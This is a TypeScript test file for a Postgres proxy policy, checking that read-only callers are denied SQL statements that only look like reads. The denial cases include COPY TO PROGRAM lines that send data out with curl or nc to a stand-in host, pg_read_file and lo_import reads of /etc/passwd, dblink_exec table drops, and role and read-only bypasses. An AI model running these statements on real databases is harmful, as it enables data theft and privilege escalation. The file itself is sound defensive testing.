/**
 * Issue #4, "Policy per statement": the ways a caller with only a read
 * grant could write, run code or leave read-only mode through a statement
 * that looks like a read. Each one is real SQL text, run through the real
 * analyser (libpg-query) and the compiled policy bundle (`make bundle`), as
 * the Postgres proxy does it: an analyst (read grant on orders-db) is
 * denied, with a reason naming the statement; each family has a control
 * that shows what stays allowed (the same statement for a DBA, who has a
 * write grant, or the harmless variant for the analyst).
 */
import { describe, expect, it } from 'vitest';
import { analyst, dba, postgresPolicy, type PolicyIdentity } from '../helpers/pg-policy.js';
const decide = postgresPolicy();

const readOnly = 'group analysts has read-only access to orders-db; ';
const functionDenied = (name: string) => `function ${name} is not allowed with read-only access to orders-db`;
// Code the caller writes (DO, CREATE FUNCTION) could read a masked column and hand it back unmasked.
const codeDenied = (what: string, columns: string) =>
  `${what} runs code the gateway cannot inspect, which could read columns masked for the caller (${columns}), and no grant on orders-db allows it (data.access.postgres.code_grants)`;
const analystMasks = 'public.customers.email, public.customers.notes, public.customers.phone, public.customers.ssn, public.orders.notes';
const dbaMasks = 'public.customers.notes, public.customers.ssn, public.orders.notes';

/** The analyst is denied for exactly these reasons. */
async function deniedToAnalyst(sql: string, ...reasons: string[]): Promise<void> {
  const d = await decide(analyst, sql);
  expect(d.action, sql).toBe('deny');
  expect(d.reasons, sql).toEqual([...reasons].sort());
  expect(d.mask).toEqual([]);
}

async function allowed(identity: PolicyIdentity, sql: string): Promise<void> {
  const d = await decide(identity, sql);
  expect(d.action, `${sql}: ${d.reasons.join('; ')}`).toBe('allow');
}

describe('COPY … PROGRAM runs a shell on the database server: denied to everyone without a listed grant', () => {
  const program = 'COPY ... PROGRAM runs a shell command on the database server';
  const noGrant = `${program}, and no grant on orders-db allows it (data.access.postgres.copy_program_grants)`;

  it.each([
    "COPY public.customers TO PROGRAM 'curl -d @- https://evil.example'",
    "COPY (SELECT ssn FROM customers) TO PROGRAM 'nc evil 9'",
    "COPY orders FROM PROGRAM 'cat /etc/passwd'",
  ])('denies the analyst %s', async (sql) => {
    await deniedToAnalyst(sql, noGrant, `${readOnly}${program}`);
  });

  it('denies the DBA too (copy_program_grants is empty)', async () => {
    expect(await decide(dba, "COPY orders TO PROGRAM 'gzip > /tmp/o.gz'")).toEqual({ action: 'deny', reasons: [noGrant], mask: [] });
  });

  it('control: COPY … TO STDOUT is a read; COPY to a server file is not', async () => {
    await allowed(analyst, 'COPY public.orders TO STDOUT');
    await allowed(analyst, 'COPY (SELECT id, total FROM orders) TO STDOUT WITH (FORMAT csv)');
    await deniedToAnalyst("COPY orders TO '/tmp/orders.csv'", `${readOnly}COPY is not read-only (only COPY ... TO STDOUT of a plain query is)`);
    await allowed(dba, "COPY orders TO '/tmp/orders.csv'");
  });
});

describe('server files, large objects, other databases, hidden SQL', () => {
  it.each([
    ["SELECT pg_read_file('/etc/passwd')", 'pg_read_file'],
    ["SELECT pg_catalog.pg_read_binary_file('global/pg_control')", 'pg_catalog.pg_read_binary_file'],
    ["SELECT * FROM pg_ls_dir('.')", 'pg_ls_dir'],
    ["SELECT id FROM orders WHERE (pg_stat_file('postgresql.conf')).size > 0", 'pg_stat_file'],
    ["SELECT lo_import('/etc/passwd')", 'lo_import'],
    ["SELECT lo_export(16401, '/tmp/x')", 'lo_export'],
    ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'dblink'],
    ["SELECT * FROM orders WHERE EXISTS (SELECT dblink_exec('host=x', 'DROP TABLE orders'))", 'dblink_exec'],
    ["SELECT dblink_connect('c', 'host=evil')", 'dblink_connect'],
    ["SELECT query_to_xml('SELECT ssn FROM customers', true, false, '')", 'query_to_xml'],
    ["SELECT pg_notify('jobs', 'refund 42')", 'pg_notify'],
  ])('denies the analyst %s', async (sql, name) => {
    await deniedToAnalyst(sql, functionDenied(name));
  });

  // Aliases and siblings of the above, each with an effect the server's read-only mode does not stop.
  it.each([
    ["SELECT pg_read_file_old('pg_hba.conf', 0, 100000)", 'pg_read_file_old'],
    ['SELECT pg_rotate_logfile_old()', 'pg_rotate_logfile_old'],
    ['SELECT pg_stat_reset()', 'pg_stat_reset'],
    ["SELECT pg_catalog.pg_stat_reset_shared('bgwriter')", 'pg_catalog.pg_stat_reset_shared'],
    ["SELECT pg_stat_reset_single_table_counters('orders'::regclass)", 'pg_stat_reset_single_table_counters'],
    ["SELECT pg_stat_reset_slru('clog')", 'pg_stat_reset_slru'],
    ["SELECT pg_replication_origin_create('o')", 'pg_replication_origin_create'],
    ["SELECT pg_replication_origin_session_setup('o')", 'pg_replication_origin_session_setup'],
    ["SELECT pg_import_system_collations('public')", 'pg_import_system_collations'],
    ["SELECT * FROM pg_copy_logical_replication_slot('a', 'b')", 'pg_copy_logical_replication_slot'],
    ['SELECT pg_log_backend_memory_contexts(pg_backend_pid())', 'pg_log_backend_memory_contexts'],
    ['SELECT txid_current()', 'txid_current'],
    ['SELECT id FROM orders WHERE pg_current_xact_id() IS NOT NULL', 'pg_current_xact_id'],
    ["SELECT brin_summarize_range('orders_brin', 0)", 'brin_summarize_range'],
    ["SELECT heap_force_kill('orders'::regclass, ARRAY['(0,1)']::tid[])", 'heap_force_kill'],
  ])('denies the analyst %s', async (sql, name) => {
    await deniedToAnalyst(sql, functionDenied(name));
  });

  it('control: the DBA may; look-alike names are not these functions', async () => {
    await allowed(dba, 'SELECT pg_stat_reset(), txid_current()');
    await allowed(analyst, 'SELECT txid_current_if_assigned(), pg_current_xact_id_if_assigned()');
    await allowed(dba, "SELECT pg_read_file('postgresql.conf')");
    await allowed(dba, "SELECT dblink_exec('host=x', 'VACUUM')");
    await allowed(analyst, "SELECT my_pg_read_file('x'), lower(status) FROM orders");
  });
});

describe("PostgreSQL's views of the server's configuration files", () => {
  const viewDenied = (name: string) => `view ${name} is not allowed with read-only access to orders-db`;
  it.each([
    ['SELECT * FROM pg_hba_file_rules', viewDenied('pg_hba_file_rules')],
    ['SELECT map_name, sys_name FROM pg_catalog.pg_ident_file_mappings', viewDenied('pg_ident_file_mappings')],
    ["SELECT name, setting FROM orders.pg_catalog.pg_file_settings WHERE sourcefile LIKE '%auto%'", viewDenied('pg_file_settings')],
    ['SELECT * FROM pg_catalog.pg_hba_file_rules()', functionDenied('pg_catalog.pg_hba_file_rules')],
    ['SELECT * FROM pg_show_all_file_settings()', functionDenied('pg_show_all_file_settings')],
  ])('denies the analyst %s', async (sql, reason) => {
    await deniedToAnalyst(sql, reason);
  });

  it('control: the DBA may; other catalog views, and a table of that name in another schema, are reads', async () => {
    await allowed(dba, 'SELECT * FROM pg_hba_file_rules');
    await allowed(analyst, "SELECT name, setting FROM pg_settings WHERE name = 'work_mem'");
    await allowed(analyst, 'SELECT * FROM reports.pg_file_settings');
  });
});

describe('DO blocks, and functions and procedures the caller writes', () => {
  it('denies the analyst a DO block, whatever it holds', async () => {
    await deniedToAnalyst('DO $$ BEGIN DELETE FROM orders; END $$', `${readOnly}DO runs a code block the gateway cannot inspect`, codeDenied('DO', analystMasks));
    await deniedToAnalyst("DO $$ BEGIN PERFORM pg_sleep(1); END $$ LANGUAGE plpgsql", `${readOnly}DO runs a code block the gateway cannot inspect`, codeDenied('DO', analystMasks));
  });

  it('denies them to the DBA too, for whom ssn is masked on orders-db', async () => {
    for (const [sql, what] of [
      ["DO $$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM customers LIMIT 1); END $$", 'DO'],
      ['CREATE FUNCTION leak() RETURNS SETOF text LANGUAGE sql AS $$ SELECT ssn FROM customers $$', 'CREATE FUNCTION'],
      ['CREATE OR REPLACE PROCEDURE keep() LANGUAGE sql AS $$ INSERT INTO notes SELECT ssn FROM customers $$', 'CREATE PROCEDURE'],
    ] as const) {
      const d = await decide(dba, sql);
      expect(d.action, sql).toBe('deny');
      expect(d.reasons, sql).toEqual([codeDenied(what, dbaMasks)]);
    }
  });

  it('control: the DBA may create other objects, and call what the database has', async () => {
    await allowed(dba, 'CREATE TABLE scratch (id int)');
    await allowed(dba, 'CALL refresh_totals()');
    await allowed(dba, 'DROP FUNCTION IF EXISTS leak()');
  });
});

describe('SELECT … INTO creates a table', () => {
  it('denies the analyst', async () => {
    await deniedToAnalyst('SELECT email, ssn INTO loot FROM public.customers', `${readOnly}SELECT writes public.loot`);
    await deniedToAnalyst('SELECT * INTO TEMP loot FROM a UNION SELECT * FROM b', `${readOnly}SELECT writes pg_temp.loot`);
    await deniedToAnalyst('CREATE TABLE loot AS SELECT * FROM customers', `${readOnly}CREATE writes public.loot`);
  });

  it('control: the DBA may; the same SELECT without INTO is a read', async () => {
    await allowed(dba, 'SELECT email INTO loot FROM public.customers');
    await allowed(analyst, 'SELECT email, ssn FROM public.customers');
  });
});

describe('nextval, setval, set_config', () => {
  it.each([
    ["SELECT nextval('orders_id_seq')", 'nextval'],
    ["SELECT setval('orders_id_seq', 1)", 'setval'],
    ["SELECT set_config('default_transaction_read_only', 'off', false)", 'set_config'],
    ["SELECT id FROM orders ORDER BY pg_catalog.set_config('search_path', 'evil', false)", 'pg_catalog.set_config'],
  ])('denies the analyst %s', async (sql, name) => {
    await deniedToAnalyst(sql, functionDenied(name));
  });

  it('control: reading a sequence is a read; the DBA may advance it', async () => {
    await allowed(analyst, "SELECT currval('orders_id_seq'), last_value FROM orders_id_seq");
    await allowed(dba, "SELECT nextval('orders_id_seq')");
  });
});

describe('EXPLAIN ANALYZE runs its statement', () => {
  it.each([
    ['EXPLAIN ANALYZE DELETE FROM public.orders', 'EXPLAIN ANALYZE writes public.orders'],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET status = lower(status)', 'EXPLAIN ANALYZE writes public.orders'],
    ['EXPLAIN (ANALYZE true) INSERT INTO audit_log VALUES (1)', 'EXPLAIN ANALYZE writes public.audit_log'],
    ['EXPLAIN ANALYZE WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone', 'EXPLAIN ANALYZE writes public.orders'],
    ['EXPLAIN ANALYZE SELECT * FROM (WITH u AS (UPDATE orders SET status = 1 RETURNING id) SELECT * FROM u) s', 'EXPLAIN ANALYZE writes public.orders'],
    ['EXPLAIN ANALYZE EXECUTE p(1)', 'EXPLAIN ANALYZE runs a statement that is not read-only'],
  ])('denies the analyst %s', async (sql, why) => {
    await deniedToAnalyst(sql, `${readOnly}${why}`);
  });

  // Plain EXPLAIN runs nothing, but planning takes the statement's table locks (ROW EXCLUSIVE for a
  // write), which the transaction keeps to its end, blocking DDL and LOCK on the table.
  const planLocks = 'EXPLAIN of a statement that is not read-only takes the table locks that statement would take (ROW EXCLUSIVE for a write), held until the transaction ends';
  it.each([
    'EXPLAIN DELETE FROM orders',
    'EXPLAIN (ANALYZE off, COSTS on) DELETE FROM orders',
    'EXPLAIN UPDATE orders SET status = 1 WHERE id = 42',
    'EXPLAIN INSERT INTO audit_log VALUES (1)',
    'EXPLAIN MERGE INTO orders o USING flags f ON o.id = f.order_id WHEN MATCHED THEN DELETE',
    'EXPLAIN SELECT * FROM orders FOR UPDATE',
    'EXPLAIN EXECUTE p(1)',
  ])('denies the analyst plain %s: planning takes its locks', async (sql) => {
    await deniedToAnalyst(sql, `${readOnly}${planLocks}`);
  });

  it('control: plain EXPLAIN and EXPLAIN ANALYZE of a read are reads; the DBA may', async () => {
    await allowed(analyst, 'EXPLAIN SELECT * FROM orders WHERE id = 42');
    await allowed(analyst, 'EXPLAIN (ANALYZE off, COSTS on) SELECT count(*) FROM orders');
    await allowed(analyst, 'EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 42');
    await allowed(dba, 'EXPLAIN DELETE FROM orders');
    await allowed(dba, 'EXPLAIN ANALYZE DELETE FROM orders');
  });
});

describe('transactions: read-only callers keep read-only mode', () => {
  it.each([
    ['BEGIN READ WRITE', 'BEGIN ... READ WRITE starts a read-write transaction'],
    ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', 'BEGIN ... READ WRITE starts a read-write transaction'],
    ['SET TRANSACTION READ WRITE', 'SET transaction can turn read-only mode off'],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'SET session characteristics can turn read-only mode off'],
    ['SET default_transaction_read_only = off', 'SET default_transaction_read_only can turn read-only mode off'],
    ['SET SESSION default_transaction_read_only TO DEFAULT', 'SET default_transaction_read_only can turn read-only mode off'],
    ['SET transaction_read_only = off', 'SET transaction_read_only can turn read-only mode off'],
    ['SET LOCAL transaction_read_only TO 0', 'SET transaction_read_only can turn read-only mode off'],
    ['RESET default_transaction_read_only', 'RESET default_transaction_read_only can turn read-only mode off'],
    ['RESET transaction_read_only', 'RESET transaction_read_only can turn read-only mode off'],
    ['RESET ALL', 'RESET all can turn read-only mode off'],
    ['DISCARD ALL', 'DISCARD can turn read-only mode off'],
  ])('denies the analyst %s', async (sql, why) => {
    await deniedToAnalyst(sql, `${readOnly}${why}`);
  });

  it('denies a COMMIT smuggled between a read and a write: the whole message is decided together', async () => {
    await deniedToAnalyst('BEGIN READ ONLY; SELECT 1; COMMIT; DELETE FROM orders', `${readOnly}DELETE writes public.orders`);
    await deniedToAnalyst('BEGIN READ ONLY; COMMIT; BEGIN READ WRITE; SELECT 1', `${readOnly}BEGIN ... READ WRITE starts a read-write transaction`);
    await deniedToAnalyst('BEGIN; SET TRANSACTION READ WRITE; SELECT 1; COMMIT', `${readOnly}SET transaction can turn read-only mode off`);
  });

  it.each([
    'BEGIN; SELECT * FROM orders; COMMIT',
    'BEGIN READ ONLY; SELECT * FROM orders; ROLLBACK',
    'START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY; SAVEPOINT a; SELECT 1; ROLLBACK TO a; RELEASE a; END',
    'BEGIN; SET TRANSACTION ISOLATION LEVEL SERIALIZABLE; SELECT 1; COMMIT AND CHAIN; ABORT',
    'SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY',
    'SET default_transaction_read_only = on',
    'COMMIT',
    'ROLLBACK',
  ])('control: allows the analyst %s', async (sql) => {
    await allowed(analyst, sql);
  });

  it('control: the DBA may start a read-write transaction', async () => {
    await allowed(dba, 'BEGIN READ WRITE; DELETE FROM orders WHERE id = 42; COMMIT');
    await allowed(dba, 'SET default_transaction_read_only = off');
  });
});

describe('data-modifying CTEs', () => {
  it.each([
    ['WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d', 'SELECT writes public.orders'],
    ['WITH u AS (UPDATE customers SET email = NULL RETURNING id) SELECT 1', 'SELECT writes public.customers'],
    ['WITH i AS (INSERT INTO audit_log VALUES (1) RETURNING 1) SELECT * FROM i', 'SELECT writes public.audit_log'],
  ])('denies the analyst %s', async (sql, why) => {
    await deniedToAnalyst(sql, `${readOnly}${why}`);
  });

  it('control: a CTE that reads is a read', async () => {
    await allowed(analyst, 'WITH recent AS (SELECT * FROM orders WHERE id > 40) SELECT count(*) FROM recent');
  });
});

describe('row locks: SELECT … FOR UPDATE / FOR SHARE', () => {
  it.each(['FOR UPDATE', 'FOR NO KEY UPDATE', 'FOR SHARE', 'FOR KEY SHARE', 'FOR UPDATE SKIP LOCKED'])('denies the analyst SELECT … %s', async (lock) => {
    await deniedToAnalyst(`SELECT * FROM orders WHERE id = 42 ${lock}`, `${readOnly}SELECT ... FOR UPDATE / FOR SHARE locks rows`);
  });

  it('control: the DBA may lock rows', async () => {
    await allowed(dba, 'SELECT * FROM orders WHERE id = 42 FOR UPDATE');
  });
});

describe('CALL, LOCK, NOTIFY', () => {
  it('denies the analyst CALL, LOCK and NOTIFY', async () => {
    await deniedToAnalyst('CALL refund(42)', `${readOnly}CALL runs a procedure, which can write`);
    await deniedToAnalyst('LOCK TABLE orders IN ACCESS SHARE MODE', `${readOnly}LOCK takes table locks that block other sessions`);
    await deniedToAnalyst("NOTIFY jobs, 'refund 42'", `${readOnly}NOTIFY signals other sessions`);
  });

  it('control: LISTEN and UNLISTEN are reads; the DBA may CALL and LOCK', async () => {
    await allowed(analyst, 'LISTEN order_events; UNLISTEN *');
    await allowed(dba, 'CALL refund(42)');
    await allowed(dba, 'BEGIN; LOCK TABLE orders IN ACCESS EXCLUSIVE MODE; COMMIT');
  });
});

describe('SET ROLE and SET SESSION AUTHORIZATION', () => {
  it.each([
    ['SET ROLE postgres', 'SET role changes the database role'],
    ['SET LOCAL ROLE admin', 'SET role changes the database role'],
    ['RESET ROLE', 'RESET role changes the database role'],
    ["SET SESSION AUTHORIZATION 'postgres'", 'SET session_authorization changes the session user'],
    ['SET SESSION AUTHORIZATION DEFAULT', 'SET session_authorization changes the session user'],
  ])('denies the analyst %s', async (sql, why) => {
    await deniedToAnalyst(sql, `${readOnly}${why}`);
  });

  it('control: the DBA may', async () => {
    await allowed(dba, 'SET ROLE reporting');
  });
});

describe('PREPARE, EXECUTE, DECLARE CURSOR', () => {
  it('denies the analyst PREPARE of a write, and any EXECUTE (what it runs is not in the text)', async () => {
    await deniedToAnalyst('PREPARE p AS DELETE FROM orders WHERE id = $1', `${readOnly}PREPARE writes public.orders`);
    await deniedToAnalyst('PREPARE p AS SELECT * FROM orders FOR UPDATE', `${readOnly}PREPARE prepares a statement that is not read-only`);
    await deniedToAnalyst('EXECUTE p(42)', `${readOnly}EXECUTE runs a prepared statement the gateway cannot inspect`);
    await deniedToAnalyst('PREPARE q AS SELECT 1; EXECUTE q', `${readOnly}EXECUTE runs a prepared statement the gateway cannot inspect`);
  });

  it('denies the analyst a cursor over a write', async () => {
    await deniedToAnalyst('DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE', `${readOnly}DECLARE declares a cursor over a statement that is not read-only`);
    await deniedToAnalyst('DECLARE c CURSOR FOR WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', `${readOnly}DECLARE writes public.orders`);
  });

  it('control: PREPARE of a read, a cursor over a read and DEALLOCATE are reads; the DBA may EXECUTE', async () => {
    await allowed(analyst, 'PREPARE p AS SELECT * FROM orders WHERE id = $1; DEALLOCATE p');
    await allowed(analyst, 'BEGIN; DECLARE c CURSOR FOR SELECT * FROM orders; FETCH 10 FROM c; CLOSE c; COMMIT');
    await allowed(dba, 'EXECUTE p(42)');
  });
});

describe('session settings', () => {
  it.each([
    "SET statement_timeout = '5s'",
    'SET LOCAL lock_timeout = 1000',
    "SET application_name = 'pgbench'",
    "SET client_encoding = 'UTF8'",
    "SET NAMES 'utf-8'",
    'SET datestyle = ISO, MDY',
    "SET DateStyle TO 'ISO'",
    'SET extra_float_digits = 3',
    "SET TIME ZONE 'UTC'",
    'SET intervalstyle = iso_8601',
    'SET standard_conforming_strings = on',
    'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE',
    'RESET statement_timeout',
    'SHOW search_path',
    'SHOW ALL',
  ])('control: allows the analyst %s', async (sql) => {
    await allowed(analyst, sql);
  });

  const only = 'is allowed with read-only access only to set one of: ';
  it.each([
    ['SET search_path = evil, public', 'SET search_path can make unqualified names resolve to tables the policy did not check'],
    ["SET SCHEMA 'evil'", 'SET search_path can make unqualified names resolve to tables the policy did not check'],
    ["SET client_encoding = 'SJIS'", `SET client_encoding ${only}utf8, utf-8, utf_8, unicode`],
    ['RESET client_encoding', `RESET client_encoding ${only}utf8, utf-8, utf_8, unicode`],
    ['SET standard_conforming_strings = off', `SET standard_conforming_strings ${only}on, true, yes, 1`],
    ["SET work_mem = '64GB'", 'SET work_mem is not a setting read-only access may change (data.access.postgres.readonly_settings)'],
    // The server's limit on how long an idle session keeps its locks: off (0) or raised, they are kept for good.
    ['SET idle_in_transaction_session_timeout = 0', 'SET idle_in_transaction_session_timeout is not a setting read-only access may change (data.access.postgres.readonly_settings)'],
    ["SET SESSION idle_in_transaction_session_timeout TO '1d'", 'SET idle_in_transaction_session_timeout is not a setting read-only access may change (data.access.postgres.readonly_settings)'],
    ["SET LOCAL idle_session_timeout = '10s'", 'SET idle_session_timeout is not a setting read-only access may change (data.access.postgres.readonly_settings)'],
    ['RESET idle_session_timeout', 'RESET idle_session_timeout is not a setting read-only access may change (data.access.postgres.readonly_settings)'],
    ['SET TRANSACTION SNAPSHOT \'00000003-0000001B-1\'', 'SET transaction snapshot is not a setting read-only access may change (data.access.postgres.readonly_settings)'],
  ])('denies the analyst %s', async (sql, why) => {
    await deniedToAnalyst(sql, `${readOnly}${why}`);
  });

  it('control: the DBA may set search_path and the idle timeouts', async () => {
    await allowed(dba, 'SET search_path = reporting, public');
    await allowed(dba, 'SET idle_in_transaction_session_timeout = 0');
  });
});

describe('one reason per denied statement, for the whole batch', () => {
  it('lists every offending statement of a message, and nothing for the reads', async () => {
    await deniedToAnalyst(
      "SELECT 1; DO $$ BEGIN END $$; SET ROLE postgres; SELECT pg_read_file('/etc/passwd'); EXECUTE p",
      functionDenied('pg_read_file'),
      codeDenied('DO', analystMasks),
      `${readOnly}DO runs a code block the gateway cannot inspect; EXECUTE runs a prepared statement the gateway cannot inspect; SET role changes the database role`,
    );
  });
});
